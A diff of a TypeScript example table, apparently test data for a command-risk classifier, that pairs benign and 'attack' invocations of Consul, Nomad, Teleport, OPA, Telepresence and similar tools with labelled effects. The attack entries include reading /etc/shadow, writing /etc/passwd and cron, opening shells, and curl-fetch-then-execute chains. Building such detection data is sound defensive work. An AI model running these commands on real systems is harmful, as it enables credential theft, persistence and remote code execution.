@@ -1,117 +1,70 @@
 import type { ExampleTable } from './example.ts'
 
 export const clusters2: ExampleTable = {
-  kustomize: {
-    use: 'kustomize -o out.txt → write out.txt',
-    attack: [
-      'kustomize -o /etc/cron.d/job → write /etc/cron.d/job',
-      'kustomize --helm-command=/tmp/x build . → run /tmp/x',
-    ],
-  },
   'kustomize build': {
-    use: 'kustomize build . -o out.txt → write out.txt',
-    attack: [
-      'kustomize build . -o /etc/cron.d/job → write /etc/cron.d/job',
-      'kustomize build . --helm-command=/tmp/x → run /tmp/x',
-    ],
+    use: 'kustomize build overlays/prod -o out.yaml → write out.yaml',
+    attack: 'kustomize build . --enable-helm --helm-command=/tmp/x → run /tmp/x',
   },
   'okteto exec': {
-    use: 'okteto exec cat notes.txt → read notes.txt',
-    attack: [
-      'okteto exec cat /etc/shadow → read /etc/shadow',
-      'okteto exec -f /etc/shadow cat notes.txt → read /etc/shadow; read notes.txt',
-    ],
-  },
-  opa: {
-    use: 'opa -d notes.txt test → read notes.txt',
-    attack: [
-      'opa -d /etc/shadow test → read /etc/shadow',
-      'opa -i /etc/shadow test → read /etc/shadow',
-    ],
+    use: 'okteto exec -- cat notes.txt → read notes.txt',
+    attack: 'okteto exec -- cat /etc/shadow → read /etc/shadow',
   },
   'opa eval': {
-    use: 'opa eval data -d notes.txt → read notes.txt',
-    attack: [
-      'opa eval data -d /etc/shadow → read /etc/shadow',
-      'opa eval data -i /etc/shadow → read /etc/shadow',
-    ],
+    use: 'opa eval -d policy.rego data.app.allow → read policy.rego',
+    attack: 'opa eval -i /etc/kubernetes/admin.conf input → read /etc/kubernetes/admin.conf',
   },
   'opa run': {
-    use: 'opa run notes.txt → read notes.txt',
-    attack: [
-      'opa run /etc/shadow → read /etc/shadow',
-      'opa run notes.txt -c /etc/shadow → read /etc/shadow; read notes.txt',
-    ],
+    use: 'opa run policy.rego → read policy.rego',
+    attack:
+      'curl -so opa.yaml https://example.org/x && opa run -s -c opa.yaml → execute ‹https://example.org/x›',
   },
   skaffold: {
-    use: 'skaffold run -f app.conf → read app.conf',
-    attack: 'skaffold run -f /etc/shadow → read /etc/shadow',
-  },
-  telepresence: {
-    use: 'telepresence connect cat notes.txt → nothing',
+    use: 'skaffold run -f skaffold.yaml → read skaffold.yaml',
+    attack:
+      'curl -so s.yaml https://example.org/x && skaffold run -f s.yaml → execute ‹https://example.org/x›',
   },
   'telepresence connect': {
-    use: 'telepresence connect cat notes.txt → read notes.txt',
-    attack: [
-      'telepresence connect cat /etc/shadow → read /etc/shadow',
-      'telepresence connect bash → shell bash',
-    ],
+    use: 'telepresence connect -- cat notes.txt → read notes.txt',
+    attack: 'telepresence connect -- bash → shell bash',
   },
   'telepresence intercept': {
-    use: 'telepresence intercept web cat notes.txt → read notes.txt',
+    use: 'telepresence intercept web -p 8080 -- cat notes.txt → read notes.txt',
     attack: [
-      'telepresence intercept web cat /etc/shadow → read /etc/shadow',
-      'telepresence intercept web bash → shell bash',
+      'telepresence intercept web -p 8080 -- bash → shell bash',
+      'telepresence intercept web -p 8080 -e /etc/passwd → write /etc/passwd',
     ],
-  },
-  tilt: {
-    use: 'tilt -f main.py up → read main.py',
-    attack: 'tilt -f /etc/shadow up → read /etc/shadow',
   },
   'tilt up': {
-    use: 'tilt up → listen 10350',
-    attack: 'tilt up -f /etc/shadow → read /etc/shadow; listen 10350',
-  },
-  vendir: {
-    use: 'vendir -f app.conf sync → read app.conf',
-    attack: [
-      'vendir -f /etc/shadow sync → read /etc/shadow',
-      'vendir --lock-file=/etc/cron.d/job → write /etc/cron.d/job',
-    ],
+    use: 'tilt up -f Tiltfile.ci → read Tiltfile.ci; listen 10350',
+    attack:
+      'curl -so Tiltfile https://example.org/x && tilt up -f Tiltfile → execute ‹https://example.org/x›; listen 10350',
   },
   'vendir sync': {
-    use: 'vendir sync -f app.conf → read app.conf',
-    attack: [
-      'vendir sync -f /etc/shadow → read /etc/shadow',
-      'vendir sync --lock-file=/etc/cron.d/job → write /etc/cron.d/job',
-    ],
+    use: 'vendir sync -f vendir.yml --lock-file vendir.lock.yml → read vendir.yml; write vendir.lock.yml',
+    attack:
+      'curl -so v.yml https://example.org/x && vendir sync -f v.yml → execute ‹https://example.org/x›',
   },
   'boundary connect': {
-    use: `boundary connect ssh --exec='cat notes.txt' → read notes.txt`,
-    attack: [
-      `boundary connect ssh --exec='cat /etc/shadow' → read /etc/shadow`,
-      'boundary connect ssh --exec=/bin/sh → shell sh',
-    ],
+    use: 'boundary connect -target-id=ttcp_1 -exec=psql → nothing',
+    attack: 'boundary connect -target-id=ttcp_1 -exec=/bin/sh → shell sh',
   },
   'consul acl': {
-    use: 'consul acl → nothing',
+    use: 'consul acl policy list → nothing',
+    attack: 'consul acl bootstrap → read secret://consul',
   },
   'consul agent': {
-    use: 'consul agent -config-file app.conf → read app.conf',
+    use: 'consul agent -config-file agent.hcl → read agent.hcl',
     attack: [
-      'consul agent -config-file /etc/shadow → read /etc/shadow',
-      'consul agent -log-file /etc/cron.d/job → write /etc/cron.d/job',
+      'consul agent -enable-script-checks -config-file agent.hcl → privilege consul agent; read agent.hcl',
+      'curl -so a.hcl https://example.org/x && consul agent -config-file a.hcl → execute ‹https://example.org/x›',
     ],
   },
   'consul exec': {
     use: 'consul exec cat notes.txt → read notes.txt',
     attack: 'consul exec cat /etc/shadow → read /etc/shadow',
   },
-  'consul kv': {
-    use: 'consul kv --http-addr=db.example.org → send db.example.org',
-  },
   'consul kv export': {
-    attack: 'consul kv export → read secret://',
+    attack: 'consul kv export app/ → read secret://app/',
   },
   'consul kv put': {
     use: 'consul kv put app/name hello → send consul kv put',
@@ -124,91 +77,87 @@ export const clusters2: ExampleTable = {
       'consul lock app bash → shell bash',
     ],
   },
-  'consul snapshot': {
-    use: 'consul snapshot save out.txt → write out.txt',
-    attack: 'consul snapshot save /etc/cron.d/job → write /etc/cron.d/job',
-  },
   'consul watch': {
-    use: 'consul watch cat notes.txt → read notes.txt',
-    attack: ['consul watch cat /etc/shadow → read /etc/shadow', 'consul watch bash → shell bash'],
+    use: 'consul watch -type=key -key=app cat notes.txt → read notes.txt',
+    attack: [
+      'consul watch -type=key -key=app cat /etc/shadow → read /etc/shadow',
+      'consul watch -type=key -key=app bash → shell bash',
+    ],
   },
   'consul-template': {
-    use: 'consul-template --config=app.conf → read app.conf',
+    use: 'consul-template -config template.hcl → read template.hcl',
     attack: [
-      'consul-template --config=/etc/shadow → read /etc/shadow',
-      `consul-template --exec='cat /etc/shadow' → read /etc/shadow`,
+      "consul-template -exec='cat /etc/shadow' → read /etc/shadow",
+      'curl -so t.hcl https://example.org/x && consul-template -config t.hcl → execute ‹https://example.org/x›',
     ],
   },
   envconsul: {
-    use: 'envconsul cat notes.txt → read notes.txt',
-    attack: ['envconsul cat /etc/shadow → read /etc/shadow', 'envconsul bash → shell bash'],
+    use: 'envconsul -prefix app cat notes.txt → read notes.txt',
+    attack: [
+      'envconsul -prefix app cat /etc/shadow → read /etc/shadow',
+      'envconsul -prefix app bash → shell bash',
+    ],
   },
   'mesos-execute': {
-    use: 'mesos-execute --master=db.example.org → send db.example.org',
-    attack: `mesos-execute --command='cat /etc/shadow' → read /etc/shadow`,
+    use: "mesos-execute --master=10.0.0.1:5050 --name=hello --command='cat notes.txt' → send 10.0.0.1:5050; read notes.txt",
+    attack:
+      "mesos-execute --master=10.0.0.1:5050 --name=s --command='cat /etc/shadow' → read /etc/shadow; send 10.0.0.1:5050",
   },
   'nomad agent': {
-    use: 'nomad agent → listen 4646',
+    use: 'nomad agent -config=nomad.hcl → read nomad.hcl; listen 4646',
     attack: [
-      'nomad agent --config=/etc/shadow → read /etc/shadow; listen 4646',
-      'nomad agent --plugin-dir=/tmp → load /tmp; listen 4646',
+      'curl -so n.hcl https://example.org/x && nomad agent -config=n.hcl → execute ‹https://example.org/x›; listen 4646',
+      'nomad agent -dev -plugin-dir=/tmp → load /tmp; listen 4646',
     ],
   },
   'nomad alloc exec': {
-    use: 'nomad alloc exec web cat notes.txt → read notes.txt',
-    attack: 'nomad alloc exec web cat /etc/shadow → read /etc/shadow',
+    use: 'nomad alloc exec -task=web 8a2b3c4d cat notes.txt → read notes.txt',
+    attack: 'nomad alloc exec -task=web 8a2b3c4d cat /etc/shadow → read /etc/shadow',
   },
   'nomad job': {
-    use: 'nomad job run app.conf → read app.conf',
-    attack: [
-      'nomad job run /etc/shadow → read /etc/shadow',
-      'nomad job run app.conf --var-file=/etc/shadow → read /etc/shadow; read app.conf',
-    ],
+    use: 'nomad job run web.nomad → read web.nomad',
+    attack:
+      'curl -so j.nomad https://example.org/x && nomad job run j.nomad → execute ‹https://example.org/x›',
   },
   'nomad operator': {
-    use: 'nomad operator -output out.txt → write out.txt',
-    attack: [
-      'nomad operator -output /etc/cron.d/job → write /etc/cron.d/job',
-      'nomad operator -out /etc/cron.d/job → write /etc/cron.d/job',
-    ],
+    use: 'nomad operator debug -output out → write out',
+    attack: 'nomad operator debug -output /etc/cron.d → write /etc/cron.d',
   },
   'nomad run': {
-    use: 'nomad run app.conf → read app.conf',
-    attack: [
-      'nomad run /etc/shadow → read /etc/shadow',
-      'nomad run app.conf --var-file=/etc/shadow → read /etc/shadow; read app.conf',
-    ],
+    use: 'nomad run web.nomad → read web.nomad',
+    attack:
+      'curl -so j.nomad https://example.org/x && nomad run j.nomad → execute ‹https://example.org/x›',
   },
   serf: {
-    use: `serf --event-handler='cat notes.txt' → read notes.txt`,
-    attack: [
-      'serf --event-handler=/tmp/x → run /tmp/x',
-      `serf --event-handler='cat /etc/shadow' → read /etc/shadow`,
-    ],
-  },
-  teleport: {
-    use: 'teleport -c app.conf → read app.conf',
-    attack: 'teleport -c /etc/shadow → read /etc/shadow',
+    use: 'serf agent -config-file=serf.json → read serf.json',
+    attack: 'serf agent -event-handler=/tmp/x → run /tmp/x',
   },
   'teleport start': {
-    use: 'teleport start → listen 3022',
-    attack: 'teleport start -c /etc/shadow → read /etc/shadow; listen 3022',
+    use: 'teleport start -c teleport.yaml → read teleport.yaml; listen 3022',
+    attack:
+      'curl -so t.yaml https://example.org/x && teleport start -c t.yaml → execute ‹https://example.org/x›; listen 3022',
   },
   'tsh kube exec': {
     use: 'tsh kube exec web cat notes.txt → read notes.txt',
     attack: 'tsh kube exec web cat /etc/shadow → read /etc/shadow',
   },
   'tsh login': {
-    use: 'tsh login -o out.txt → write out.txt',
-    attack: 'tsh login -o /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'tsh login --proxy=teleport.example.org -o identity.pem → write identity.pem',
+    attack: 'tsh login --proxy=teleport.example.org -o /etc/passwd → write /etc/passwd',
   },
   'tsh scp': {
-    use: 'tsh scp notes.txt https://example.org/up → read notes.txt; send https://example.org/up',
-    attack:
-      'tsh scp /etc/shadow https://example.org/up → read /etc/shadow; send https://example.org/up',
+    use: 'tsh scp notes.txt ann@web:/tmp/ → read notes.txt; send ann@web:/tmp/',
+    attack: 'tsh scp /etc/shadow ann@web:/tmp/ → read /etc/shadow; send ann@web:/tmp/',
   },
   'tsh ssh': {
-    use: 'tsh ssh db.example.org cat notes.txt → read notes.txt; send db.example.org',
-    attack: 'tsh ssh db.example.org cat /etc/shadow → read /etc/shadow; send db.example.org',
+    use: 'tsh ssh ann@web cat notes.txt → read notes.txt; send ann@web',
+    attack: 'tsh ssh root@web cat /etc/shadow → read /etc/shadow; send root@web',
+  },
+  'consul snapshot restore': {
+    use: 'consul snapshot restore backup.snap → use backup.snap',
+  },
+  'consul snapshot save': {
+    use: 'consul snapshot save backup.snap → write backup.snap',
+    attack: 'consul snapshot save /etc/passwd → write /etc/passwd',
   },
 }
